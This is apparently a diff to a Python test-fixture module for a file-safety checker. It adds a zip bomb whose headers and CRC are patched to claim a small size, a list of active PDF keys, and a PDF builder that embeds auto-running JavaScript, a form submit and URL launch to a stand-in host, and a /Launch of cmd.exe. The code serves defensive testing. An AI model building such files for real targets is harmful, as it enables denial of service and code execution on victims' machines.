@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import functools
 import io
 import struct
 import zipfile
@@ -197,3 +198,56 @@ def ole(*entries: tuple[str, int]) -> bytes:
         directory.append(bytes(64) + struct.pack("<HBB", 0, 0, 0) + b"\xff" * 12 + bytes(36) + bytes(12))
     assert len(directory) == 4, "one directory sector is enough for these tests"
     return bytes(header) + fat + b"".join(directory)
+
+
+@functools.cache
+def lying_zip_bomb(uncompressed_bytes: int, *, claimed: int = 1000) -> bytes:
+    """Zeros that inflate to `uncompressed_bytes`, with both headers claiming `claimed` bytes.
+
+    The CRC is patched to that of the first `claimed` bytes, so a checker that stops at the
+    declared size finds a perfectly valid entry; an unpacker that follows the stream gets it all.
+    """
+    output = io.BytesIO()
+    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
+        with archive.open("report.txt", "w") as member:
+            block = bytes(1024 * 1024)
+            for _ in range(uncompressed_bytes // len(block)):
+                member.write(block)
+    data = bytearray(output.getvalue())
+    crc = zlib.crc32(bytes(claimed))
+    struct.pack_into("<I", data, 14, crc)  # local header: CRC-32, then sizes at 18 and 22
+    struct.pack_into("<I", data, 22, claimed)
+    central = data.rfind(b"PK\x01\x02")
+    struct.pack_into("<I", data, central + 16, crc)
+    struct.pack_into("<I", data, central + 24, claimed)
+    return bytes(data)
+
+
+ACTIVE_PDF_NAMES = (b"/JavaScript", b"/JS", b"/OpenAction", b"/AA", b"/Launch")
+
+
+def pdf_with_scripts() -> bytes:
+    """A one-page PDF that runs JavaScript on opening, on page open, from a link and a name tree,
+    and launches a program from a link: every way a reviewer's viewer could be made to run code."""
+    writer = PdfWriter()
+    writer.add_blank_page(200, 200)
+
+    def js(code: str):
+        return writer._add_object(DictionaryObject({NameObject("/S"): NameObject("/JavaScript"),
+                                                    NameObject("/JS"): TextStringObject(code)}))
+
+    writer._root_object[NameObject("/OpenAction")] = js("app.alert('opened')")
+    writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): DictionaryObject({
+        NameObject("/Names"): ArrayObject([TextStringObject("init"), js("this.submitForm('https://x.example')")])})})
+    page = writer.pages[0]
+    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): js("app.launchURL('https://x.example')")})
+    launch = DictionaryObject({NameObject("/S"): NameObject("/Launch"),
+                               NameObject("/F"): TextStringObject("cmd.exe")})
+    rect = ArrayObject([NumberObject(10), NumberObject(10), NumberObject(90), NumberObject(30)])
+    links = [DictionaryObject({NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
+                               NameObject("/Rect"): rect, NameObject("/A"): action})
+             for action in (writer._add_object(launch), js("app.alert('clicked')"))]
+    page[NameObject("/Annots")] = ArrayObject([writer._add_object(link) for link in links])
+    output = io.BytesIO()
+    writer.write(output)
+    return output.getvalue()
